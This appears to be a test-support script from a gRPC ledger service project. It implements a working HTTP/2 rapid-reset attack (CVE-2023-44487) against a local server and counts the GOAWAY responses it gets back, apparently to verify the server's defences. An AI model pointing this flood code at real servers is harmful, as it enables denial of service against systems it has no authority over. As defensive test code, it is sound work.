/**
 * A rapid-reset attacker (CVE-2023-44487), run as its own process so that it
 * can be pinned to a core of its own:
 *
 *   tsx test/support/rapid-reset-attack.ts PORT CONNECTIONS SECONDS [LOCAL_ADDRESS]
 *
 * Each of CONNECTIONS connections sends the preface, then HEADERS + RST_STREAM
 * pairs as fast as the socket takes them, and reconnects at once whenever the
 * server closes it, until SECONDS have passed. No key is needed: the streams
 * never get as far as authentication. Prints one JSON line of counts.
 */
import { connect } from "node:net";
import { FRAME, H2_ERROR, PREFACE, SETTINGS, frame, headersFrame, rstFrame } from "./h2-frames.js";

const [port, connections, seconds, localAddress] = [Number(process.argv[2]), Number(process.argv[3]), Number(process.argv[4]), process.argv[5]];
const until = performance.now() + seconds * 1000;
const stats = { connects: 0, refused: 0, streams: 0, goaways: 0, enhanceYourCalm: 0, goawayCodes: {} as Record<number, number> };
const headers = {
  ":method": "POST",
  ":scheme": "http",
  ":path": "/tally.ledger.v1.LedgerService/GetBalance",
  ":authority": "127.0.0.1",
  "content-type": "application/grpc",
};

function attack(): Promise<void> {
  return new Promise((done) => {
    stats.connects++;
    const s = connect({ host: "127.0.0.1", port, ...(localAddress ? { localAddress } : {}) });
    let id = 1;
    let got = 0;
    let buf = Buffer.alloc(0);
    s.on("data", (d: Buffer) => {
      got += d.length;
      buf = Buffer.concat([buf, d]);
      // Whole frames only; just enough parsing to count GOAWAYs and their codes.
      while (buf.length >= 9 && buf.length >= 9 + buf.readUIntBE(0, 3)) {
        const len = buf.readUIntBE(0, 3);
        if (buf[3] === FRAME.GOAWAY) {
          stats.goaways++;
          const code = buf.readUInt32BE(13);
          stats.goawayCodes[code] = (stats.goawayCodes[code] ?? 0) + 1;
          if (buf.readUInt32BE(13) === H2_ERROR.ENHANCE_YOUR_CALM) stats.enhanceYourCalm++;
        }
        buf = buf.subarray(9 + len);
      }
    });
    s.on("error", () => undefined);
    s.once("close", () => {
      if (got === 0) stats.refused++;
      done();
    });
    const burst = () => {
      if (s.destroyed || performance.now() > until) {
        s.destroy();
        return;
      }
      const out: Buffer[] = [];
      for (let i = 0; i < 100 && id < 2 ** 31 - 2; i++, id += 2) out.push(headersFrame(id, headers), rstFrame(id, H2_ERROR.CANCEL));
      stats.streams += out.length / 2;
      if (s.write(Buffer.concat(out))) setImmediate(burst);
      else s.once("drain", burst);
    };
    s.once("connect", () => {
      s.write(Buffer.concat([PREFACE, SETTINGS, frame(FRAME.SETTINGS, 1, 0)]));
      burst();
    });
  });
}

async function worker(): Promise<void> {
  while (performance.now() < until) await attack();
}

await Promise.all(Array.from({ length: connections }, worker));
process.stdout.write(JSON.stringify(stats) + "\n");
